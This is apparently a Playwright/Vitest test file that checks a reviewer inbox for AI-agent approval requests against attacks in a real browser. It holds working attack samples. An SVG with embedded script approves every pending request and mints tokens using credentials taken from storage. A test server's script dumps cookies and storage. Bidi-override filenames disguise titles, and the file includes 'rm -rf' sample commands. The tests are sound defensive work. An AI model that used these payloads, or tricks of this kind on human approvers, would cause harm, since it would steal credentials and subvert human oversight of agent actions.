import { createServer, type IncomingHttpHeaders } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { launchChromium, signInOnPage, SKIP_BROWSER, openWatchedPage } from '../helpers/browser.js';
import { createRequest, show } from '../helpers/request-api.js';
import { startTestServer, type TestServer } from '../helpers/test-server.js';

/**
 * The red team's attacks on the reviewer's browser, performed in
 * real Chromium against the real daemon: agent-supplied bytes run as a document of the daemon,
 * the inbox's credential replayed from a server on another port, bidi overrides disguising a
 * title. Each must find nothing to work with.
 */

// A 1x1 PNG.
const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');

/**
 * An "image" from an agent that, run as a document of the daemon's origin, approves every
 * pending request and mints a submit token with whatever credential it finds: the browser's
 * cookies, or any value in the origin's storage used as a bearer token. Synchronous XHR, so all
 * of it has happened by the time the document's load event fires.
 */
const SVG_PAYLOAD = `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script><![CDATA[
(function () {
  // A blob: URL is no base for relative URLs; its origin is the daemon's.
  var base = location.origin;
  function call(method, path, body, bearer) {
    try {
      var x = new XMLHttpRequest();
      x.open(method, base + path, false);
      x.withCredentials = true;
      if (body) x.setRequestHeader('content-type', 'application/json');
      if (bearer) x.setRequestHeader('authorization', 'Bearer ' + bearer);
      x.send(body ? JSON.stringify(body) : null);
      return x.status === 200 || x.status === 201 ? JSON.parse(x.responseText) : null;
    } catch (e) { return null; }
  }
  var secrets = [null];
  [window.sessionStorage, window.localStorage].forEach(function (s) {
    try { for (var i = 0; i < s.length; i++) secrets.push(s.getItem(s.key(i))); } catch (e) {}
  });
  secrets.forEach(function (bearer, n) {
    var pending = call('GET', '/v1/requests?status=pending', null, bearer) || [];
    pending.forEach(function (r) { call('POST', '/v1/requests/' + r.id + '/decision', { option: 'approve', content_hash: r.content_hash }, bearer); });
    call('POST', '/v1/tokens', { name: 'minted-by-svg-' + n }, bearer);
  });
})();
]]></script><rect width="10" height="10" fill="red"/></svg>`;

describe.skipIf(SKIP_BROWSER)('attacks on the reviewer page (Chromium)', () => {
  let browser: Browser;
  let t: TestServer;
  let context: BrowserContext;
  let page: Page;
  let problems: string[];

  beforeAll(async () => {
    browser = await launchChromium();
  });
  afterAll(async () => browser?.close());

  beforeEach(async () => {
    t = await startTestServer();
    ({ context, page, problems } = await openWatchedPage(browser, { acceptDownloads: true }));
  });

  afterEach(async () => {
    await context?.close();
    await t?.close();
    expect(problems).toEqual([]);
  });

  it("an option's colour is its outcome's: an agent's style: danger makes no approving button red, nor style: primary a denying one green", async () => {
    await createRequest(t.api, {
      title: 'Styled to mislead',
      options: [
        { id: 'go', label: 'Stop the deploy', outcome: 'approve', style: 'danger' },
        { id: 'halt', label: 'Continue', outcome: 'deny', style: 'primary' },
      ],
    });
    await signInOnPage(page, t);
    await open('Styled to mislead');
    const classes = (option: string) => page.locator(`#decision-block button[data-option="${option}"]`).getAttribute('class');
    expect(await classes('go')).toContain('btn-approve');
    expect(await classes('halt')).toContain('btn-deny');
  });

  async function upload(bytes: Buffer, type: string): Promise<string> {
    const res = await t.api.request('POST', '/v1/blobs', undefined, { raw: bytes, headers: { 'content-type': type } });
    expect(res.status, res.text).toBe(201);
    return res.text;
  }

  async function open(title: string) {
    await page.locator('#pending-list a.card', { hasText: title }).click();
    await page.locator('#detail .detail-title', { hasText: title }).waitFor();
  }

  /** Nothing the payload does may have happened: the request pending, no token minted. */
  async function expectPayloadInert(id: string) {
    expect((await show(t.api, id)).status).toBe('pending');
    expect((await t.api.get('/v1/tokens')).body).toEqual([]);
  }

  describe("item 1: agent bytes never become a document in the daemon's origin", () => {
    async function openImages(): Promise<string[]> {
      await open('Logo update');
      // Every image preview has been drawn (an image, or what is offered instead).
      await page.waitForFunction(() => {
        const bodies = [...document.querySelectorAll('#detail .preview-image .preview-body')];
        return bodies.length === 3 && bodies.every((b) => b.children.length > 0 && !b.textContent?.includes('Loading'));
      });
      await page.waitForFunction(() => [...document.querySelectorAll('#detail .preview-image img')].every((img) => (img as HTMLImageElement).complete));
      // Every object URL the page holds, in any attribute of any element.
      return page.evaluate(() =>
        [...document.querySelectorAll('*')].flatMap((el) => [...el.attributes].map((a) => a.value)).filter((v) => v.startsWith('blob:')),
      );
    }

    it('an SVG (declared as SVG or disguised as PNG) gets no object URL; the ones that exist are inert raster images, even opened in their own tab', async () => {
      const svg = await upload(Buffer.from(SVG_PAYLOAD), 'image/svg+xml');
      const png = await upload(PNG, 'image/png');
      const created = await createRequest(t.api, {
        title: 'Logo update',
        previews: [
          { type: 'image', blob: svg, mime: 'image/svg+xml', name: 'logo.svg' },
          { type: 'image', blob: svg, mime: 'image/png', name: 'disguised.png' },
          { type: 'image', blob: png, mime: 'image/png', name: 'dot.png' },
          { type: 'file', blob: svg, mime: 'image/svg+xml', name: 'logo.svg' },
        ],
      });
      await signInOnPage(page, t);
      const urls = await openImages();
      // The PNG is shown; the SVG is offered for download, never drawn from an object URL.
      expect(await page.locator('#detail .preview-image img').count()).toBe(1);
      expect(urls.length).toBeGreaterThan(0);

      // "Open image in new tab" on each: an image document, nothing runs.
      for (const url of urls) {
        const tab = await context.newPage();
        await tab.goto(url);
        await expectPayloadInert(created.id);
        expect(await tab.evaluate(() => document.contentType)).toMatch(/^image\/(png|jpeg|gif|webp|avif)$/);
        await tab.close();
      }
      // The same in the inbox's own tab, which holds the session: still nothing runs.
      for (let i = 0; i < urls.length; i++) {
        await page.goto(t.url);
        await page.locator('#conn[data-state="live"]').waitFor();
        const again = await openImages();
        await page.goto(again[i]!);
        await expectPayloadInert(created.id);
        expect(await page.evaluate(() => document.contentType)).toMatch(/^image\/(png|jpeg|gif|webp|avif)$/);
      }
    });

    it('downloading the SVG saves it without opening it; the blob route itself serves it as an inert attachment', async () => {
      const svg = await upload(Buffer.from(SVG_PAYLOAD), 'image/svg+xml');
      const created = await createRequest(t.api, {
        title: 'Logo update',
        previews: [
          { type: 'image', blob: svg, mime: 'image/svg+xml', name: 'logo.svg' },
          { type: 'image', blob: svg, mime: 'image/png', name: 'disguised.png' },
          { type: 'file', blob: svg, mime: 'image/svg+xml', name: 'logo.svg' },
        ],
      });
      await signInOnPage(page, t);
      await open('Logo update');
      const inbox = page.url();
      for (const link of await page.locator('#detail .file-link').all()) {
        const [download] = await Promise.all([page.waitForEvent('download'), link.click()]);
        expect(await download.failure()).toBeNull();
        expect(await download.suggestedFilename()).toMatch(/^(logo\.svg|disguised\.png)$/);
      }
      expect(page.url()).toBe(inbox);
      await expectPayloadInert(created.id);

      // Navigated to directly, with an admin credential on the request: a download, not a document.
      const tab = await context.newPage();
      await tab.setExtraHTTPHeaders({ authorization: `Bearer ${t.adminToken}` });
      const [download] = await Promise.all([tab.waitForEvent('download'), tab.goto(`${t.url}/v1/blobs/${svg}`).catch(() => null)]);
      expect(await download.failure()).toBeNull();
      await expectPayloadInert(created.id);
    });
  });

  describe('item 2: nothing the inbox holds can be replayed from a server on another port', () => {
    it('a server on another port of 127.0.0.1 receives no cookie and no secret, and what it does receive is refused', async () => {
      interface Seen {
        url: string;
        headers: IncomingHttpHeaders;
        body: string;
      }
      const seen: Seen[] = [];
      const reports: Array<(value: Record<string, unknown>) => void> = [];
      const nextReport = () => new Promise<Record<string, unknown>>((resolve) => reports.push(resolve));
      // An agent's dev server: logs everything it gets, and its page reports what the browser
      // gives a script of that origin (cookies and storage).
      const other = createServer((req, res) => {
        let body = '';
        req.on('data', (c) => (body += c));
        req.on('end', () => {
          seen.push({ url: req.url ?? '', headers: req.headers, body });
          if (req.url === '/report') {
            reports.shift()?.(JSON.parse(body));
            res.writeHead(204).end();
            return;
          }
          res.writeHead(200, { 'content-type': 'text/html' }).end(`<!doctype html><title>dev server</title><script>
            const dump = (s) => { const o = {}; for (let i = 0; i < s.length; i++) o[s.key(i)] = s.getItem(s.key(i)); return o; };
            fetch('/report', { method: 'POST', body: JSON.stringify({ cookie: document.cookie, local: dump(localStorage), session: dump(sessionStorage) }) });
          </script>`);
        });
      });
      await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
      const otherUrl = `http://127.0.0.1:${(other.address() as AddressInfo).port}`;
      try {
        await signInOnPage(page, t);
        const held = await page.evaluate(() => ({ ...sessionStorage, ...localStorage }));

        // The reviewer opens the dev server in the inbox's tab, then in a new tab.
        const sameTab = nextReport();
        await page.goto(`${otherUrl}/same-tab`);
        const reported = [await sameTab];
        const newTab = nextReport();
        const tab = await context.newPage();
        await tab.goto(`${otherUrl}/new-tab`);
        reported.push(await newTab);

        for (const r of seen) {
          expect(r.headers.cookie, `${r.url} got a cookie`).toBeUndefined();
          expect(r.headers.authorization, `${r.url} got an Authorization header`).toBeUndefined();
        }
        for (const r of reported) expect(r).toEqual({ cookie: '', local: {}, session: {} });
        const everything = JSON.stringify({ seen, reported });
        expect(everything).not.toContain(t.adminToken);
        for (const secret of Object.values(held)) expect(everything).not.toContain(secret);

        // Anything it got that could be a credential, replayed as a bearer token and as a cookie.
        const ordinary =
          /^(host|connection|user-agent|accept|accept-encoding|accept-language|sec-.*|upgrade-insecure-requests|content-type|content-length|origin|referer|cache-control|pragma|priority)$/;
        const candidates = new Set<string>();
        for (const r of seen) for (const [k, v] of Object.entries(r.headers)) if (!ordinary.test(k)) for (const x of [v].flat()) if (x) candidates.add(x);
        for (const r of reported)
          for (const v of [r.cookie, ...Object.values(r.local as object), ...Object.values(r.session as object)]) if (v) candidates.add(String(v));
        for (const c of candidates) {
          for (const value of [c, ...c.split(/;\s*/).map((pair) => pair.slice(pair.indexOf('=') + 1))]) {
            const bearer = await t.api.request('GET', '/v1/session', undefined, { token: value.replace(/^Bearer\s+/i, '') });
            expect(bearer.status, `replayed ${value}`).toBe(401);
          }
          const cookie = await t.api.request('GET', '/v1/requests', undefined, { token: null, headers: { cookie: c } });
          expect(cookie.status, `replayed cookie ${c}`).toBe(401);
        }

        // Back in the inbox's tab, its session is still there: it never left the daemon's origin.
        await page.goto(t.url);
        await page.locator('#conn[data-state="live"]').waitFor();
      } finally {
        other.closeAllConnections();
        await new Promise((resolve) => other.close(resolve));
      }
    });
  });

  describe('item 7: bidi overrides and invisible format characters are shown, not obeyed', () => {
    const INVISIBLE = ['\u202A', '\u202B', '\u202C', '\u202D', '\u202E', '\u2066', '\u2067', '\u2068', '\u2069', '\u200E', '\u200F', '\u061C'];
    const RLO = '\u202E';

    /** Text nodes and attribute values (but form values, which are sent back) holding one of them. */
    const leaks = () =>
      page.evaluate((chars) => {
        const found: string[] = [];
        const has = (s: string) => chars.some((c) => s.includes(c));
        const walker = document.createTreeWalker(document.documentElement, NodeFilter.SHOW_TEXT);
        for (let n = walker.nextNode(); n; n = walker.nextNode()) if (has(n.nodeValue ?? '')) found.push(`text: ${JSON.stringify(n.nodeValue)}`);
        for (const el of document.querySelectorAll('*')) {
          for (const a of el.attributes)
            if (a.name !== 'value' && has(a.value)) found.push(`${el.tagName.toLowerCase()}[${a.name}]: ${JSON.stringify(a.value)}`);
        }
        if (has(document.title)) found.push(`title: ${document.title}`);
        return found;
      }, INVISIBLE);
    /** The same for the sandboxed HTML preview, read from outside (no script runs in there). */
    const frameLeaks = async () => {
      const html = await page.frameLocator('#detail iframe').locator('body').innerHTML();
      return INVISIBLE.filter((c) => html.includes(c)).map((c) => `U+${c.codePointAt(0)!.toString(16).toUpperCase()}`);
    };

    it('in titles, summaries, options, questions, source fields and every kind of preview; answers keep the raw label', async () => {
      const all = INVISIBLE.join('');
      await createRequest(t.api, {
        title: `invoice${RLO}fdp.exe`,
        summary: `Pay **invoice${RLO}fdp.exe**, then &#x202E;gpj.exe and &#8207;x and &rlm;y ${all}`,
        tool: `Bash${RLO}`,
        risk: 'high',
        source: {
          agent: `bot\u2066x\u2069`,
          session: `s\u200E1`,
          session_title: `t\u200F`,
          cwd: `/home/\u202Adev`,
          repo: `acme/\u061Cshop`,
          branch: `main\u202Dx`,
          host: `h\u202Bx`,
          integration: `i\u202C`,
        },
        options: [
          { id: 'approve', label: `Ship${RLO}ti`, outcome: 'approve' },
          { id: 'deny', label: `No${RLO}pe`, outcome: 'deny' },
        ],
        input: { command: `rm -rf ${RLO}x` },
        previews: [
          { type: 'text', title: `notes${RLO}.txt`, inline: `line ${RLO}one\nline two ${all}` },
          { type: 'code', name: `a${RLO}.ts`, lang: 'ts', inline: `const s = "${RLO}";` },
          { type: 'markdown', inline: `# H${RLO}1\n\n[link${RLO}](https://example.com "tip${RLO}") ![alt${RLO}](data:,x) &#x2066;z` },
          { type: 'json', inline: '{"k": "\\u202e\\u2067"}' },
          { type: 'diff', title: `b${RLO}.ts`, inline: `--- a/x\n+++ b/x\n+added ${RLO}x` },
          { type: 'command', command: { argv: ['rm', `-rf${RLO}`], cwd: `/srv${RLO}`, env_keys: [`K${RLO}`] } },
          { type: 'html', inline: `<p id="p">a${RLO}b &#x202E;c &#8238;d &rlm;e &lrm;f</p>` },
          {
            type: 'email',
            email: {
              from: `x${RLO}@y`,
              to: [`t${RLO}@y`],
              subject: `S${RLO}`,
              body: `B${RLO}`,
              attachments: [{ name: `f${RLO}.pdf` }],
              in_reply_to: { from: `q${RLO}`, body: `Q${RLO}` },
            },
          },
          { type: 'file', name: `f${RLO}.exe`, inline: `inline${RLO}` },
        ],
      });
      const question = await createRequest(t.api, {
        title: 'Pick one',
        kind: 'question',
        input: {
          questions: [
            {
              id: 'q',
              header: `H${RLO}`,
              question: `Which${RLO}?`,
              allow_free_text: true,
              options: [{ label: `opt${RLO}1`, description: `d${RLO}`, preview: `p${RLO}` }, { label: 'other' }],
            },
          ],
        },
      });
      await signInOnPage(page, t);

      const title = page.locator('#pending-list .card-title', { hasText: 'invoice' });
      expect(await title.textContent()).toBe('invoice\uFFFDfdp.exe');
      await open('invoice');
      expect(await page.locator('#detail .detail-title').textContent()).toBe('invoice\uFFFDfdp.exe');
      expect(await page.locator('#decision-block button[data-option="approve"]').textContent()).toContain('Ship\uFFFDti');
      expect(await page.locator('#detail .source').textContent()).toContain('bot\uFFFDx\uFFFD');
      await page.frameLocator('#detail iframe').locator('#p').waitFor();
      await page.locator('#detail .preview-markdown h1').waitFor();
      expect(await page.locator('#detail .preview-markdown h1').textContent()).toBe('H\uFFFD1');
      expect(await leaks()).toEqual([]);
      expect(await page.frameLocator('#detail iframe').locator('#p').textContent()).toBe('a\uFFFDb \uFFFDc \uFFFDd \uFFFDe \uFFFDf');
      expect(await frameLeaks()).toEqual([]);

      await open('Pick one');
      expect(await page.locator('fieldset[data-question="q"] .q-text').textContent()).toBe('Which\uFFFD?');
      expect(await leaks()).toEqual([]);
      // The answer is the option's label exactly as the agent wrote it.
      await page.locator('fieldset[data-question="q"] input[type="radio"]').first().check();
      await page.locator('#decision-block button[data-option="submit"]').click();
      await page.locator('#pending-list a.card', { hasText: 'Pick one' }).waitFor({ state: 'detached' });
      expect((await show(t.api, question.id)).decision.fields.answers).toEqual({ q: { selected: [`opt${RLO}1`] } });

      // The decided request in history: its answers, and the toast, as the reviewer sees them.
      await page.locator('nav [data-tab="history"]').click();
      await page.locator('#history-list a.card', { hasText: 'Pick one' }).click();
      await page.locator('#decision-block .answers').waitFor();
      expect(await page.locator('#decision-block .answers dd').textContent()).toBe('opt\uFFFD1');
      expect(await leaks()).toEqual([]);
    });

    it('commands and code read in the order they run: right-to-left letters do not move the numbers around them', async () => {
      await createRequest(t.api, {
        title: 'Pay the refund',
        previews: [
          { type: 'command', command: { shell: '\u0627 100 to account 5' } },
          { type: 'code', lang: 'sh', inline: 'transfer 10 \u05D0 9000' },
        ],
      });
      await signInOnPage(page, t);
      await open('Pay the refund');
      // Left to right as written: the letter before the first number stays left of it.
      const order = (selector: string, first: string, second: string) =>
        page.locator(selector).evaluate(
          (el, [a, b]) => {
            const x = (needle: string) => {
              const walker = document.createTreeWalker(el, NodeFilter.SHOW_TEXT);
              for (let n = walker.nextNode(); n; n = walker.nextNode()) {
                const i = n.nodeValue!.indexOf(needle);
                if (i < 0) continue;
                const r = document.createRange();
                r.setStart(n, i);
                r.setEnd(n, i + needle.length);
                return r.getBoundingClientRect().left;
              }
              throw new Error(`not found: ${needle}`);
            };
            return x(a!) < x(b!);
          },
          [first, second],
        );
      expect(await order('#detail pre.command', '\u0627', '100')).toBe(true);
      expect(await order('#detail pre.code', '10', '9000')).toBe(true);
      expect(await order('#detail pre.code', '\u05D0', '9000')).toBe(true);
    });
  });
});
